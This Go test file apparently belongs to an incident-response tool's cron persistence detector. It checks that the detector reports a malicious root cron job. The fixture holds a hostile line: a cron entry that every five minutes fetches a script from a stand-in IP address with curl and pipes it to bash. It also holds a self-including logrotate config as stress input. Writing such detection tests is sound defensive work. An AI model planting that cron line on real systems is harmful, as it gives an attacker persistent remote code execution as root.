package schedule

import (
	"testing"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
)

// TestHostileInput: hostile versions of every file the check parses leave
// a root cron job that downloads and runs a script reported.
func TestHostileInput(t *testing.T) {
	enginetest.Hostile{
		Detector: New(),
		Root: func(t testing.TB) string {
			return fixture(t, "-- etc/cron.d/sysupdate --\n*/5 * * * * root curl -fsSL http://203.0.113.7/u.sh | bash\n")
		},
		Trace: []enginetest.Want{{Rule: ruleCronCommand, Subject: "/etc/cron.d/sysupdate", Severity: model.Critical, Indicators: []string{"download-exec"}}},
		Files: []string{"/etc/crontab", "/etc/cron.d/", "/etc/cron.d/sysupdate", "/var/spool/cron/crontabs/", "/var/spool/cron/crontabs/root",
			"/etc/anacrontab", "/var/spool/cron/atjobs/", "/etc/logrotate.conf", "/etc/logrotate.d/", "/etc/passwd"},
		Needs: []string{"/etc/cron.d/sysupdate"},
		Extra: map[string]string{"logrotate-include-loop": "include /etc/logrotate.conf\ninclude /etc/logrotate.d\n/var/log/x {\n  postrotate\n    include /etc/logrotate.conf\n  endscript\n"},
	}.Run(t)
}
